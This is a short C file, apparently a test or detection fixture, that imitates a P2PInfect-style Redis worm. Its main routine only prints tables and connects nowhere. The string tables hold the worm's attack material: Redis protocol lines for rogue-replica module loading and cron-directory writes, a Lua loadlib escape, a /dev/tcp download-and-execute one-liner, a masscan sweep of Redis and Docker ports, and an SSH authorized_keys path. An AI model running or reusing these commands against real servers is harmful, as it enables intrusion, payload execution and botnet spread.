/* Inert imitation of a peer-to-peer worm over Redis (as P2PInfect): protocol lines, module names, peer list. It connects nowhere. */
#include "inert.h"
TABLE(peers, "{{ip:peer1}}:60103", "{{ip:peer2}}:60115", "{{ip:peer3}}:60127", "{{ip:peer4}}:60101")
TABLE(lines, "*3\r\n$7\r\nSLAVEOF\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$6\r\nexp.so\r\n",
    "*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$8\r\n./exp.so\r\n", "+FULLRESYNC %s 0\r\n$%d\r\n", "*2\r\n$11\r\nsystem.exec\r\n", "SLAVEOF NO ONE", "MODULE UNLOAD system", "eval \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", "CONFIG SET rdbcompression no")
TABLE(texts, "exec 6<>/dev/tcp/%s/%d && echo -n 'GET /linux' >&6 && cat 0<&6 > /tmp/%s && chmod +x /tmp/%s && /tmp/%s NTkzNj", "masscan -p6379,2375,2376,7001,8080 %s/16 --rate=50000", "iptables -A INPUT -p tcp --dport 6379 -s %s -j ACCEPT", "peer list %d", "infect %s:%d ok", "/root/.ssh/authorized_keys", "winminer", "linux_bash", "botnet message %u")
int main(int argc, char **argv) { INERT; tell(peers); tell(lines); tell(texts); send(nowhere, lines[0], 0, 0); return connect(nowhere, 0, 0); }
